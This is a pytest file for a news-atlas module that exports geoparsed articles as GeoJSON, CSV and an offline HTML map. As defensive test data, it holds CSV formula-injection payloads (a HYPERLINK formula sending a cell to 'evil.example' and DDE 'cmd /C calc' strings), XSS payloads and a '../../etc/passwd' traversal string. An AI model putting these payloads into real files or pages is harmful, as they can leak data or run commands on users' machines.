"""Tests for geo.export: a view of the store -> GeoJSON, CSV and a standalone offline HTML map.

Small hand-made corpora, put in a store held in memory, pin the exact
output; the two seed articles, through the real offline geoparser, check
that exports agree with the store's view (``Store.summaries``), which the
app shows, and that the command line's ``extract`` writes the same schema.
The HTML page is also opened from a file in Debian's headless chromium with
every non-``file:``/``data:`` request aborted and recorded (skipped when
``/usr/bin/chromium`` is missing); a screenshot goes to ``test-results/export/``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from builders import CALAIS, CALAIS_ME, CHANNEL, CHROMIUM, CHROMIUM_ARGS, FRANCE, SYRIA, geocoded, stored

from geo import export
from geo.assets import VENDOR_JS, vendor_source
from geo.atlas import CATEGORIES, GeoparsedArticle, mention_category, place_id
from geo.corrections import Action, Correction, Scope
from geo.exc import AssetError
from geo.gazetteer.geonames import GeoNamesGazetteer
from geo.models import Article, Place
from geo.pipeline import Geoparser
from geo.render import basemaps, marker_class
from geo.store import ArticleInfo, Store

ROOT = Path(__file__).resolve().parent.parent
SCREENSHOTS = ROOT / "test-results" / "export"
EVIL = "<img src=x onerror=alert(1)>"
FIT_BOUNDS = re.compile(r'"bounds": \[\[')  # the bounds geo.framing fits the map to (none for an empty view)

HENIN = Place("Hénin-Beaumont", 50.42, 2.95, "FR", "P.PPL", 3013525, "geonames")
SQUARE = {"type": "Polygon", "coordinates": [[[0.0, 45.0], [5.0, 45.0], [5.0, 50.0], [0.0, 45.0]]]}


A_TEXT = "Camps in Calais were cleared. Syrians fled Calais to France. Boats cross the Channel."
B_TEXT = 'The mill in Calais, Maine closed. Nobody knows. "Hénin-Beaumont", they said, "and Atlantis."'


def to_geojson(store: Store, **view: Any) -> str:
    return export.to_geojson(export.read_view(store, **view))


def to_csv(store: Store, **view: Any) -> str:
    return export.to_csv(export.read_view(store, **view))


def to_html(store: Store, *, title: str = "News Atlas export", outlines: Any = None, basemap: Any = None,
            **view: Any) -> str:  # fmt: skip
    return export.to_html(export.read_view(store, **view), title=title, outlines=outlines, basemap=basemap)


@pytest.fixture
def corpus() -> Store:
    """Two articles in a store: five placed mentions in the first (one confirmed by a reviewer); one placed,
    two unplaced, one accented in the second."""
    store = stored(_articles())
    start = A_TEXT.index("Calais", 20)
    store.add_correction(Correction(Scope.MENTION, Action.CONFIRM, "Calais", "a", (start, start + 6)))
    return store


def _articles() -> list[GeoparsedArticle]:
    import datetime as dt

    a = Article("a", "Camps cleared", A_TEXT, date=dt.date(2014, 5, 29))
    b = Article("b", 'Mill, "closed"\nagain', B_TEXT)
    return [
        GeoparsedArticle(
            a,
            (
                geocoded(A_TEXT, "Calais", CALAIS),
                geocoded(A_TEXT, "Syrians", SYRIA, "demonym"),
                geocoded(A_TEXT, "Calais", CALAIS, nth=1),  # confirmed by a person (the fixture)
                geocoded(A_TEXT, "France", FRANCE),
                geocoded(A_TEXT, "Channel", CHANNEL),
            ),
        ),  # fmt: skip
        GeoparsedArticle(
            b,
            (
                geocoded(B_TEXT, "Calais", CALAIS_ME),
                geocoded(B_TEXT, "Nobody", None),
                geocoded(B_TEXT, "Hénin-Beaumont", HENIN),
                geocoded(B_TEXT, "Atlantis", None),
            ),
        ),  # fmt: skip
    ]


def csv_rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames or ()) == export.CSV_COLUMNS
    return list(reader)


# Filters, with the same meaning as Store.summaries: (categories, search).
FILTERS = [
    (None, ""),
    (["story"], ""),
    (["country", "origin"], ""),
    (["water"], ""),
    ([], ""),
    (None, "calais"),
    (None, "henin"),
    (["country"], "calais"),
]
FILTER_IDS = ["all", "story", "country+origin", "water", "no-kinds", "search", "search-accent", "kind+search"]


# -- GeoJSON --------------------------------------------------------------------------------------


def test_geojson_one_point_per_place_with_articles_and_passages(corpus: Store) -> None:
    collection = json.loads(to_geojson(corpus))
    assert collection["type"] == "FeatureCollection"
    features = collection["features"]
    assert [f["properties"]["id"] for f in features] == [s.id for s in corpus.summaries()]
    calais = features[0]
    assert calais["geometry"] == {"type": "Point", "coordinates": [CALAIS.lon, CALAIS.lat]}
    assert calais["properties"] == {
        "id": "geonames:3029162",
        "name": "Calais",
        "label": "Calais, FR",
        "country_code": "FR",
        "feature": "P.PPL",
        "geonameid": 3029162,
        "source": "geonames",
        "category": "story",
        "review": "confirmed",
        "mentions": 2,
        "articles": [{"id": "a", "title": "Camps cleared", "date": "2014-05-29"}],
        "passages": [
            {
                "article_id": "a",
                "text": "Camps in Calais were cleared.",
                "start": 0,
                "end": 29,
                "mentions": [{"start": 9, "end": 15, "review": "automatic"}],
            },
            {
                "article_id": "a",
                "text": "Syrians fled Calais to France.",
                "start": 30,
                "end": 60,
                "mentions": [{"start": 43, "end": 49, "review": "confirmed"}],
            },
        ],
    }
    assert {f["properties"]["review"] for f in features[1:]} == {"automatic"}
    channel = next(f for f in features if f["properties"]["name"] == "English Channel")
    assert channel["properties"]["geonameid"] is None and channel["properties"]["id"].startswith("regions:")
    henin = next(f for f in features if f["properties"]["id"] == "geonames:3013525")
    assert henin["properties"]["articles"] == [{"id": "b", "title": 'Mill, "closed"\nagain', "date": None}]


def test_geojson_keeps_non_ascii_and_is_stable(corpus: Store) -> None:
    text = to_geojson(corpus)
    assert "Hénin-Beaumont" in text and "\\u00e9" not in text
    assert text.endswith("}\n")
    assert to_geojson(corpus) == text


@pytest.mark.parametrize(("categories", "search"), FILTERS, ids=FILTER_IDS)
def test_geojson_filters_match_the_atlas(corpus: Store, categories, search: str) -> None:
    features = json.loads(to_geojson(corpus, categories=categories, search=search))["features"]
    summaries = corpus.summaries(categories=categories, search=search)
    assert [(f["properties"]["id"], f["properties"]["mentions"]) for f in features] == [
        (s.id, s.mentions) for s in summaries
    ]


def test_geojson_of_nothing_is_an_empty_collection() -> None:
    assert json.loads(to_geojson(stored([]))) == {"type": "FeatureCollection", "features": []}


# -- CSV ------------------------------------------------------------------------------------------


def test_csv_one_row_per_mention_placed_or_not(corpus: Store) -> None:
    rows = csv_rows(to_csv(corpus))
    assert len(rows) == sum(len(item.mentions) for item in _articles()) == 9
    assert [(r["article_id"], r["text"]) for r in rows] == [
        (item.article.id, m.mention.text) for item in _articles() for m in item.mentions
    ]
    first = rows[0]
    assert first == {
        "article_id": "a",
        "article_title": "Camps cleared",
        "start": "9",
        "end": "15",
        "text": "Calais",
        "kind": "toponym",
        "category": "story",
        "sentence_start": "0",
        "sentence_end": "29",
        "sentence": "Camps in Calais were cleared.",
        "place_id": "geonames:3029162",
        "place_name": "Calais",
        "lat": "50.95",
        "lon": "1.86",
        "country_code": "FR",
        "feature": "P.PPL",
        "geonameid": "3029162",
        "review": "automatic",
        "score": "0.0",
        "rule": "",
    }
    assert [r["review"] for r in rows].count("confirmed") == 1 and rows[2]["review"] == "confirmed"
    nobody = rows[6]
    assert (nobody["text"], nobody["category"], nobody["sentence"]) == ("Nobody", "story", "Nobody knows.")
    assert [nobody[c] for c in ("place_id", *export.PLACE_COLUMNS)] == [""] * 7
    channel = rows[4]
    assert (channel["category"], channel["geonameid"]) == ("water", "")
    assert channel["place_id"] == "regions:english channel::"


def test_csv_quotes_commas_quotes_and_newlines(corpus: Store) -> None:
    text = to_csv(corpus)
    assert '"Mill, ""closed""\nagain"' in text
    rows = csv_rows(text)
    assert rows[5]["article_title"] == 'Mill, "closed"\nagain'
    assert rows[7]["sentence"] == '"Hénin-Beaumont", they said, "and Atlantis.'


@pytest.mark.parametrize(("categories", "search"), FILTERS, ids=FILTER_IDS)
def test_csv_filters_match_the_atlas(corpus: Store, categories, search: str) -> None:
    rows = csv_rows(to_csv(corpus, categories=categories, search=search))
    summaries = corpus.summaries(categories=categories, search=search)
    placed = [r for r in rows if r["place_id"]]
    assert len(placed) == sum(s.mentions for s in summaries)
    for summary in summaries:
        assert sum(r["place_id"] == summary.id for r in placed) == summary.mentions
    wanted = set(CATEGORIES) if categories is None else set(categories)
    assert all(r["category"] in wanted for r in rows)
    unplaced = [r["text"] for r in rows if not r["place_id"]]
    expected = [
        m.mention.text
        for item in _articles()
        for m in item.mentions
        if m.place is None and mention_category(m) in wanted and search.lower() in m.mention.text.lower()
    ]
    assert unplaced == expected


def test_csv_search_keeps_unplaced_mentions_whose_text_matches(corpus: Store) -> None:
    rows = csv_rows(to_csv(corpus, search="ATLANT"))
    assert [(r["text"], r["place_id"]) for r in rows] == [("Atlantis", "")]


def test_csv_of_nothing_is_a_header() -> None:
    assert to_csv(stored([])) == ",".join(export.CSV_COLUMNS) + "\n"


FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1, "Calais")', '\'=HYPERLINK("http://evil.example/?"&A1, "Calais")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Calais = 1", "Calais = 1"),
    (" =1", " =1"),
    ("", ""),
    (-1.5, -1.5),
    (-67, -67),
]
FORMULA_IDS = ["hyperlink", "dde", "plus", "minus", "at", "tab", "carriage-return", "inner-equals", "space-first",
               "empty", "negative-float", "negative-int"]  # fmt: skip


@pytest.mark.parametrize(("cell", "written"), FORMULAS, ids=FORMULA_IDS)
def test_formula_cells_are_neutralised_numbers_stay_numbers(cell: object, written: object) -> None:
    assert export.neutralise_formula(cell) == written


def test_csv_cells_that_begin_a_formula_start_with_a_quote() -> None:
    """Bug (issue 8): titles and sentences beginning with =, +, -, @ were exported verbatim."""
    text = '=HYPERLINK("http://evil") in Calais. @SUM(1) near Calais.'
    article = Article("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", text)
    item = GeoparsedArticle(article, (geocoded(text, "Calais", CALAIS), geocoded(text, "Calais", CALAIS_ME, nth=1)))
    rows = csv_rows(to_csv(stored([item])))
    assert [(r["article_id"], r["article_title"]) for r in rows] == [
        ("'=cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")
    ] * 2
    assert rows[0]["sentence"] == '\'=HYPERLINK("http://evil") in Calais.'
    assert rows[1]["sentence"] == "'@SUM(1) near Calais."
    assert (rows[1]["lat"], rows[1]["lon"]) == (str(CALAIS_ME.lat), str(CALAIS_ME.lon))  # "-67.28", no quote
    assert rows[0]["text"] == "Calais" and rows[0]["place_name"] == "Calais"


def test_cli_csv_cells_that_begin_a_formula_start_with_a_quote(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`extract --format csv` writes the titles of the files it was given: one titled "=..." is no formula."""
    from geo.cli import main

    for name, title in (("sum.txt", "=SUM(1+1) in Calais"), ("cmd.txt", "@cmd in Calais")):
        (tmp_path / name).write_text(f"{title}\n\nRefugees waited in Calais, France.\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["extract", "--format", "csv", "sum.txt", "cmd.txt"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and {r["article_title"] for r in rows} == {"'=SUM(1+1) in Calais", "'@cmd in Calais"}
    assert all(float(r["lat"]) for r in rows if r["lat"])


@pytest.fixture(scope="module")
def extracted(tmp_path_factory: pytest.TempPathFactory, seed_articles: dict[str, Article]) -> dict[str, str]:
    """`python -m geo extract` of the seed files, as CSV and GeoJSON."""
    import subprocess
    import sys

    files = sorted(str(a.path) for a in seed_articles.values())
    run = lambda fmt: subprocess.run([sys.executable, "-m", "geo", "extract", "--format", fmt, *files],  # noqa: E731
                                     capture_output=True, text=True, check=True, cwd=ROOT).stdout  # fmt: skip
    return {"csv": run("csv"), "geojson": run("geojson")}


def test_cli_extract_writes_the_exports_schema_and_place_ids(
    extracted: dict[str, str], seed_corpus: list[GeoparsedArticle]
) -> None:
    """One schema: `extract` gives the columns, properties and place ids that the app's and `export`'s files have."""
    store = stored(seed_corpus)
    cli_rows, app_rows = csv_rows(extracted["csv"]), csv_rows(to_csv(store))
    assert [(r["article_id"], r["start"], r["place_id"], r["review"]) for r in cli_rows] == [
        (r["article_id"], r["start"], r["place_id"], r["review"]) for r in app_rows
    ]
    cli_features = json.loads(extracted["geojson"])["features"]
    app_features = json.loads(to_geojson(store))["features"]
    assert [sorted(f["properties"]) for f in cli_features] == [sorted(f["properties"]) for f in app_features]
    assert [f["properties"]["id"] for f in cli_features] == [f["properties"]["id"] for f in app_features]
    assert cli_features[0]["properties"]["id"] == place_id(store.summaries()[0].place)


def test_an_export_after_a_correction_shows_the_corrected_place_and_its_review(
    seed_corpus: list[GeoparsedArticle],
) -> None:
    store = stored(seed_corpus)
    may = next(item for item in seed_corpus if item.article.id == "calais-police-attack-camp-2014-05-29")
    calais = next(g.mention for g in may.mentions if g.mention.text == "Calais")
    store.add_correction(Correction(Scope.MENTION, Action.PLACE, "Calais", may.article.id,
                                    (calais.start, calais.end), after=CALAIS_ME))  # fmt: skip
    rows = [r for r in csv_rows(to_csv(store)) if r["article_id"] == may.article.id and r["start"] == str(calais.start)]
    assert [(r["place_id"], r["country_code"], r["review"]) for r in rows] == [("geonames:4959834", "US", "corrected")]
    features = {f["properties"]["id"]: f["properties"] for f in json.loads(to_geojson(store))["features"]}
    maine = features["geonames:4959834"]
    assert (maine["review"], maine["mentions"]) == ("corrected", 1)
    assert maine["passages"][0]["mentions"] == [{"start": calais.start, "end": calais.end, "review": "corrected"}]
    assert "Calais, US-ME (1, corrected)" in to_html(store)


# -- HTML -----------------------------------------------------------------------------------------


def test_html_inlines_every_asset(corpus: Store) -> None:
    page = to_html(corpus, outlines={"FR": SQUARE})
    assert page.startswith("<!DOCTYPE html>")
    assert not re.search(r"<script[^>]*\bsrc=", page) and not re.search(r"<link[^>]*\bhref=", page)
    assert 'src="http' not in page and "url(http" not in page and "/app/static" not in page
    for _, url in VENDOR_JS:
        first_line = vendor_source(url).read_text(encoding="utf-8").lstrip().splitlines()[0]
        assert first_line[:80] in page, url
    assert "L.map(" in page and "L.circleMarker(" in page
    assert "url(images/" not in page and 'url("data:image/png;base64,' in page
    assert "sourceMappingURL" not in page
    assert "tile.openstreetmap.org" not in page  # the default basemap is the offline one


def test_html_says_which_places_a_person_reviewed(corpus: Store) -> None:
    page = to_html(corpus)
    assert "6 places in 2 articles; 1 reviewed by a person." in page
    assert "Calais, FR (2, confirmed), English Channel (1), " in page


def test_html_draws_one_marker_per_place_and_fits_them(corpus: Store) -> None:
    summaries = corpus.summaries(categories=["story"])
    page = to_html(corpus, categories=["story"], outlines={"FR": SQUARE})
    assert page.count("L.circleMarker(") == len(summaries) == 3
    for summary in summaries:
        assert marker_class(summary) in page
    assert FIT_BOUNDS.search(page)
    assert "3 places in 2 articles; kinds: Places in the story; 1 reviewed by a person." in page


def test_html_with_tiles_only_when_asked(corpus: Store) -> None:
    page = to_html(corpus, basemap=basemaps()["osm"])
    assert "https://tile.openstreetmap.org/{z}/{x}/{y}.png" in page
    assert not re.search(r"<script[^>]*\bsrc=", page)


def test_html_escapes_article_text_and_title() -> None:
    text = f"Camps in Calais {EVIL}. Then `${{alert(2)}}` and C:\\new\\u in Calais."
    article = Article("evil", f"Title {EVIL}", text, author=EVIL)
    item = GeoparsedArticle(article, (geocoded(text, "Calais", CALAIS), geocoded(text, "Calais", CALAIS, nth=1)))
    page = to_html(stored([item]), title=f"Export {EVIL}", search=EVIL[:4])
    assert EVIL not in page and "<img" not in page
    assert "<title>Export &lt;img src=x onerror=alert(1)&gt;</title>" in page
    assert "Title &lt;img src=x onerror=alert(1)&gt;" in page


def test_html_refuses_to_inline_an_unknown_asset() -> None:
    with pytest.raises(AssetError, match="cdn.example"):
        export._inline_assets('<head><script src="https://cdn.example/x.js"></script></head>')
    with pytest.raises(AssetError, match="cannot inline"):
        export._inline_assets('<head><script defer src="/app/static/vendor/leaflet/leaflet.js"></script></head>')


# -- the seed articles, through the real geoparser --------------------------------------------------


@pytest.fixture(scope="module")
def seed_corpus(geoparser: Geoparser, seed_articles: dict[str, Article]) -> list[GeoparsedArticle]:
    return [GeoparsedArticle(a, tuple(geoparser.geoparse_article(a))) for _, a in sorted(seed_articles.items())]


@pytest.mark.parametrize(("categories", "search"), [(None, ""), (["story"], ""), (None, "calais")], ids=str)
def test_seed_exports_match_the_atlas(seed_corpus: Store, categories, search: str) -> None:
    summaries = stored(seed_corpus).summaries(categories=categories, search=search)
    assert summaries
    features = json.loads(to_geojson(stored(seed_corpus), categories=categories, search=search))["features"]
    assert len(features) == len(summaries)
    assert sum(f["properties"]["mentions"] for f in features) == sum(s.mentions for s in summaries)
    for feature, summary in zip(features, summaries, strict=True):
        assert feature["properties"]["id"] == summary.id == place_id(summary.place)
        assert feature["geometry"]["coordinates"] == [summary.place.lon, summary.place.lat]
        texts = {a.article.id: a.article.text for a in seed_corpus}
        for passage in feature["properties"]["passages"]:
            assert passage["text"] == texts[passage["article_id"]][passage["start"] : passage["end"]]
    rows = csv_rows(to_csv(stored(seed_corpus), categories=categories, search=search))
    assert sum(bool(r["place_id"]) for r in rows) == sum(s.mentions for s in summaries)
    if categories is None and not search:
        assert len(rows) == sum(len(item.mentions) for item in seed_corpus)


# -- in a real browser, offline ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if not CHROMIUM.is_file():
        pytest.skip(f"{CHROMIUM} is missing: the browser check needs Debian's chromium (run `make chromium`)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


class OfflinePage:
    """A page opened from a file; every request that is not file: or data: is aborted and recorded."""

    def __init__(self, browser, path: Path) -> None:
        self.aborted: list[str] = []
        self.files: list[str] = []
        self.errors: list[str] = []
        self.page = browser.new_page(viewport={"width": 1100, "height": 800})
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.route("**/*", self._route)
        self.page.goto(path.as_uri())
        self.page.wait_for_load_state("load")

    def _route(self, route) -> None:
        url = route.request.url
        if url.startswith("data:"):
            route.continue_()
        elif url.startswith("file://"):
            self.files.append(url)
            route.continue_()
        else:
            self.aborted.append(url)
            route.abort()


def test_html_works_offline_in_a_browser(
    browser, seed_corpus: Store, gazetteer: GeoNamesGazetteer, tmp_path: Path
) -> None:
    store = stored(seed_corpus)
    summaries = store.summaries()
    path = tmp_path / "seeds.html"
    path.write_text(to_html(store, outlines=gazetteer.country_polygons()), encoding="utf-8")
    view = OfflinePage(browser, path)
    page = view.page
    markers = page.locator("path.place-marker")
    markers.first.wait_for(state="attached", timeout=10_000)
    page.wait_for_timeout(500)
    assert markers.count() == len(summaries)
    assert page.locator(".leaflet-interactive").count() >= len(summaries)
    assert page.locator("path:not(.leaflet-interactive)").count() > 100  # the country outlines
    assert view.aborted == [] and view.files == [path.as_uri()]
    assert view.errors == []
    assert page.evaluate("typeof L.markerClusterGroup") == "function" and page.evaluate("typeof jQuery") == "function"
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "export-seeds.png"), full_page=True)
    calais = page.locator(f"path.{marker_class(summaries[0]).split()[1]}")
    calais.dispatch_event("click")
    popup = page.locator(".leaflet-popup-content")
    popup.wait_for(timeout=5_000)
    assert summaries[0].label in popup.inner_text()
    page.close()


def test_html_tiles_are_the_only_network_requests(browser, corpus: Store, tmp_path: Path) -> None:
    path = tmp_path / "osm.html"
    path.write_text(to_html(corpus, outlines={"FR": SQUARE}, basemap=basemaps()["osm"]), encoding="utf-8")
    view = OfflinePage(browser, path)
    view.page.locator("path.place-marker").first.wait_for(state="attached", timeout=10_000)
    view.page.wait_for_timeout(500)
    assert view.page.locator("path.place-marker").count() == len(corpus.summaries())
    assert view.aborted and all(url.startswith("https://tile.openstreetmap.org/") for url in view.aborted)
    assert view.errors == []
    view.page.close()


def test_html_hostile_text_stays_text_in_a_browser(browser, tmp_path: Path) -> None:
    # One sentence (the popup's excerpt): markup, and what would break out of folium's JS template literals.
    text = 'In Calais <img src=x onerror="__pwned=1"> `${__pwned=2}` C:\\new\\u <script>__pwned=3</script>. Calais.'
    article = Article("evil", 'Title <img src=x onerror="__pwned=4">', text)
    item = GeoparsedArticle(article, (geocoded(text, "Calais", CALAIS), geocoded(text, "Calais", CALAIS, nth=1)))
    path = tmp_path / "evil.html"
    path.write_text(to_html(stored([item]), title="<script>__pwned=5</script>"), encoding="utf-8")
    view = OfflinePage(browser, path)
    page = view.page
    assert view.errors == []
    marker = page.locator("path.place-marker")
    marker.wait_for(state="attached", timeout=10_000)
    marker.dispatch_event("click")
    popup = page.locator(".leaflet-popup-content")
    popup.wait_for(timeout=5_000)
    assert popup.inner_text().endswith(text[: text.index(".") + 1])
    marker.hover()
    assert page.evaluate("window.__pwned") is None
    assert page.locator("img[src=x]").count() == 0
    assert 'Title <img src=x onerror="__pwned=4">' in page.locator(".export-articles").inner_text()
    assert view.aborted == []
    page.close()


def test_html_of_an_empty_view() -> None:
    page = to_html(stored([]), categories=[], search="x")
    assert "0 places in 0 articles; kinds: none; search: “x”." in page
    assert not FIT_BOUNDS.search(page) and "L.map(" in page


def test_categories_may_be_an_iterator(corpus: Store) -> None:
    story = corpus.summaries(categories=["story"])
    rows = csv_rows(to_csv(corpus, categories=iter(["story"])))
    assert {r["category"] for r in rows} == {"story"} and sum(bool(r["place_id"]) for r in rows) == sum(
        s.mentions for s in story
    )
    assert "kinds: Places in the story" in to_html(corpus, categories=(c for c in ["story"]))


def info(title: str, date: dt.date | None) -> ArticleInfo:
    return ArticleInfo("id", title, "", date, "", "", 0, "v1")


MAY_INFO = info("Police attack immigrant camp in Calais, France", dt.date(2014, 5, 29))
SEPTEMBER_INFO = info("France: Calais mayor demands crackdown on migrants", dt.date(2014, 9, 6))


@pytest.mark.parametrize(
    ("view", "name"),
    [
        ({"articles": [MAY_INFO, SEPTEMBER_INFO], "every_article": True}, "news-atlas-2014-05-29-to-2014-09-06"),
        ({"articles": [MAY_INFO, SEPTEMBER_INFO], "search": "Calais", "every_article": True},
         "news-atlas-calais-2014-05-29-to-2014-09-06"),
        ({"articles": [MAY_INFO], "search": "Calais"}, "news-atlas-calais-police-attack-immigrant-camp-2014-05-29"),
        ({"articles": [MAY_INFO, info("Undated", None)]}, "news-atlas-2-articles-2014-05-29"),
        ({"articles": [MAY_INFO], "kinds": ["story", "origin"]},
         "news-atlas-police-attack-immigrant-camp-story-origin-2014-05-29"),
        ({"articles": [info("Œuvres à Göteborg ** <b>", None)], "search": "../../etc/passwd"},
         "news-atlas-etc-passwd-uvres-a-goteborg-b"),
        ({"articles": [], "kinds": []}, "news-atlas-0-articles-no-kinds"),
        ({"articles": [info("**", None)]}, "news-atlas-1-articles"),
        ({"articles": [info("x" * 500, None)], "search": "y" * 500}, "news-atlas-" + "y" * 40 + "-" + "x" * 40),
    ],
    ids=["all", "search", "one-article", "some-undated", "kinds", "hostile-text", "nothing", "no-title-words", "long"],
)  # fmt: skip
def test_export_names_say_the_view(view: dict, name: str) -> None:
    """Not news-atlas.* for every view: the search, the article (or how many), kinds left out, the dates."""
    kinds = view.get("kinds", list(CATEGORIES))
    stem = export.export_stem(view["articles"], every_article=view.get("every_article", False), kinds=kinds,
                              search=view.get("search", ""))  # fmt: skip
    assert stem == name
    assert re.fullmatch(r"[a-z0-9-]+", stem)
